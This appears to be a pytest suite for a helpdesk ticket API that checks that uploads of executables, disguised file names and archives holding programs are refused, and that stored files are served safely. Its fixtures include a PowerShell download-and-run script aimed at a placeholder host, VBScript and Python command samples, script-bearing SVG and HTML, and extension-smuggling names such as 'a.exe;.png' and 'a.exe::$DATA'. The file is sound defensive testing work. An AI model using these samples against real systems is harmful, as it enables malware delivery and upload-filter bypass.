"""What a ticket file may be, and how a stored file is served (issue 27,
uploads): every name and content issue 27 found accepted is refused with
400 naming the field, by multipart and by URL, and leaves no file and no
ticket behind; archives are looked into (real ones, made here with
zipfile and tarfile); only raster images are served inline, everything
else as an attachment under its name, with nosniff and a sandbox."""
import io
import json
import os
import secrets
import tarfile
import zipfile
from urllib.parse import quote

import pytest
import requests

from conftest import BAD_LOG, FilesHandler, Org, httpd, https_server
from helpers import assert_error

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + b"1 0 obj\n<<>>\nendobj\n" * 50
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
      + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
TEXT = b"Hello, these are the notes of the call.\n"
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg">'
       b'<script>alert(document.domain)</script></svg>')
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
POWERSHELL = (b"$client = New-Object System.Net.WebClient\r\n"
              b"$client.DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\")"
              b"\r\nStart-Process \"$env:TEMP\\a.exe\"\r\n")
VBSCRIPT = (b"Set objShell = CreateObject(\"WScript.Shell\")\r\n"
            b"objShell.Run \"calc.exe\"\r\n")
PYTHON = b"import os\nos.system('id')\n"


def zip_of(entries):
    """A real zip of {name: bytes}, deflated."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


def tgz_of(entries):
    """A real gzip'd tar of {name: bytes}."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, data in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


PE_ZIP = zip_of({"readme.txt": TEXT, "invoice.pdf": PE})
EXE_ZIP = zip_of({"readme.txt": TEXT, "bin/setup.exe": b"x"})
JAR = zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\n"
              b"Main-Class: Main\r\n\r\n", "notes.txt": TEXT})
NESTED = zip_of({"docs/inner.zip": PE_ZIP, "readme.txt": TEXT})
ELF_TGZ = tgz_of({"logs/app.log": TEXT, "logs/collect": ELF})
SCRIPT_ZIP = zip_of({"notes.txt": PYTHON})

# (name, bytes, what the message says): refused by the name.
BY_NAME = [
    ("tool.py", TEXT, ".py"), ("tool.pl", TEXT, ".pl"),
    ("shell.php", TEXT, ".php"), ("launch.desktop", TEXT, ".desktop"),
    ("package.deb", TEXT, ".deb"), ("firmware.bin", TEXT, ".bin"),
    ("a.exe;.png", PNG, "';'"), ("a.exe::$DATA", PNG, "NTFS"),
    ("a.exe.", PNG, "a dot or a space"), ("a.exe ", PNG, "a dot or a space"),
    ("a.exe.png", PNG, ".exe"), ("TOOL.PY", TEXT, ".PY"),
    ("app.jar", PDF, ".jar"),
]

# (name, bytes, what the message says): refused by the content.
BY_CONTENT = [
    ("archive.zip", PE_ZIP, '"invoice.pdf" in the archive: a Windows'),
    ("tools.zip", EXE_ZIP, '"bin/setup.exe" in the archive: a name with'),
    ("library.zip", JAR, "a Java archive's manifest"),
    ("nested.zip", NESTED, "a Windows program"),
    ("logs.tar.gz", ELF_TGZ, '"logs/collect" in the archive: an ELF'),
    ("notes.zip", SCRIPT_ZIP, "a Python script"),
    ("photo.png", PNG + EXE_ZIP, "a name with .exe"),
    ("notes.txt", POWERSHELL, "a PowerShell script"),
    ("notes.txt", VBSCRIPT, "a VBScript script"),
    ("notes.txt", PYTHON, "a Python script"),
    ("setup.pdf", PE, "a Windows program"),
]


class Files(FilesHandler):
    files = dict([("/ok.png", (PNG, "image/png"))]
                 + [("/c/%d" % i, (body, "application/octet-stream"))
                    for i, (_, body, _) in enumerate(BY_CONTENT)]
                 + [("/n/" + quote(name), (body, "text/plain"))
                    for name, body, _ in BY_NAME])


@pytest.fixture(scope="module")
def remote():
    with https_server(Files) as srv:
        yield srv


@pytest.fixture(scope="module")
def site(database, remote):
    extra = ("FeedbackOutboundAllowLoopback On\n"
             "FeedbackOutboundCAFile %s\n" % remote.cert)
    with httpd(database, extra) as s:
        yield s
        with open(s.error_log, errors="replace") as f:
            bad = [l for l in f.read().splitlines() if BAD_LOG.search(l)]
        assert not bad, "unexpected error log lines:\n" + "\n".join(bad)


class Desk:
    def __init__(self, server):
        self.server = server
        self.org = Org(server, "ft" + secrets.token_hex(3))
        server.ctl("demo-seed", self.org.id)
        self.api = self.org.api
        self.category = {c["supportBoardType"]: c["id"] for c in
                         self.api.get("/tickets/categories").json()}[
                             "customer"]
        self.shots = {f["label"]: f["id"] for f in
                      self.api.get("/tickets/custom_fields").json()["data"]
                      }["Screenshots"]
        self.param = "customFields." + self.shots

    def body(self, **extra):
        body = {"ticketCategoryId": self.category, "title": "Files",
                "author": {}}
        body.update(extra)
        return body

    def upload(self, name, data, ctype="application/octet-stream"):
        return self.api.request("POST", "/tickets", files=[
            ("data", (None, json.dumps(self.body()), "application/json")),
            (self.param, (name, data, ctype))])

    def by_url(self, value):
        return self.api.post("/tickets", json=self.body(
            customFields={self.shots: [value]}))

    def counts(self):
        return self.server.sql(
            "SELECT (SELECT count(*) FROM files WHERE org_id = %s), "
            "(SELECT count(*) FROM tickets WHERE org_id = %s)",
            self.org.id, self.org.id)[0]


@pytest.fixture(scope="module")
def desk(site):
    return Desk(site)


def refused(desk, r, what):
    err = assert_error(r, 400, "invalid_parameter", param=desk.param)
    assert err["message"].startswith("Executable files are not accepted ("),\
        err
    assert what in err["message"], err


@pytest.mark.parametrize("name,body,what", BY_NAME,
                         ids=[n for n, _, _ in BY_NAME])
def test_refused_by_name(desk, remote, name, body, what):
    before = desk.counts()
    refused(desk, desk.upload(name, body), what)
    # By URL: the name given, and the name of the URL's path (decoded:
    # "%3B" is ';').
    hits = len(remote.hits)
    refused(desk, desk.by_url({"url": remote.base + "/ok.png",
                               "name": name}), what)
    assert len(remote.hits) == hits, "fetched before the name was checked"
    refused(desk, desk.by_url({"url": remote.base + "/n/" + quote(name)}),
            what)
    assert desk.counts() == before


@pytest.mark.parametrize("i", range(len(BY_CONTENT)),
                         ids=["%s-%s" % (n, w.split()[-1])
                              for n, _, w in BY_CONTENT])
def test_refused_by_content(desk, remote, i):
    name, body, what = BY_CONTENT[i]
    before = desk.counts()
    refused(desk, desk.upload(name, body), what)
    refused(desk, desk.by_url({"url": remote.base + "/c/%d" % i,
                               "name": name}), what)
    assert desk.counts() == before


def test_archives_that_hold_no_program(desk):
    """Archives of documents are taken: a zip, a gzip'd tar, an office
    document (a zip), a zip in a zip; with ':' and ';' in entries' names
    (logs named by the time)."""
    docx = zip_of({"[Content_Types].xml": b"<Types/>",
                   "word/document.xml": b"<w:document/>"})
    for name, body in (
            ("docs.zip", zip_of({"a.txt": TEXT, "b/c.png": PNG,
                                 "logs/12:00;1.log": TEXT})),
            ("logs.tar.gz", tgz_of({"./logs/app.log": TEXT})),
            ("letter.docx", docx),
            ("outer.zip", zip_of({"inner.zip": zip_of({"a.pdf": PDF})}))):
        r = desk.upload(name, body)
        assert r.status_code == 201, (name, r.text)


def test_serving(desk):
    """Raster images inline; SVG, HTML, PDF, text, archives saved as
    attachments under their names; every file with nosniff and a
    sandbox."""
    cases = [("shot.png", PNG, "image/png", None),
             ("logo.svg", SVG, "image/svg+xml", 'filename="logo.svg"'),
             ("page.html", HTML, "text/html", 'filename="page.html"'),
             ("doc.pdf", PDF, "application/pdf", 'filename="doc.pdf"'),
             ("notes.txt", TEXT, "text/plain", 'filename="notes.txt"'),
             ("r\u00e9sum\u00e9 (1).pdf", PDF, "application/pdf",
              "filename=\"r_sum_ (1).pdf\"; "
              "filename*=UTF-8''r%C3%A9sum%C3%A9%20%281%29.pdf")]
    for name, body, ctype, disposition in cases:
        r = desk.upload(name, body, "image/png")
        assert r.status_code == 201, (name, r.text)
        f = json.loads(r.json()["customFields"][desk.shots])[0]
        assert f["name"] == name
        got = requests.get(f["url"], timeout=30)
        assert got.status_code == 200 and got.content == body
        assert got.headers["Content-Type"].split(";")[0] == ctype, name
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        csp = [d.strip() for d in
               got.headers["Content-Security-Policy"].split(";")]
        assert "sandbox" in csp and "default-src 'none'" in csp
        if disposition is None:
            assert "Content-Disposition" not in got.headers, name
        else:
            assert got.headers["Content-Disposition"] == \
                "attachment; " + disposition, name
        head = requests.head(f["url"], timeout=30)
        assert head.headers.get("Content-Disposition") == \
            got.headers.get("Content-Disposition")
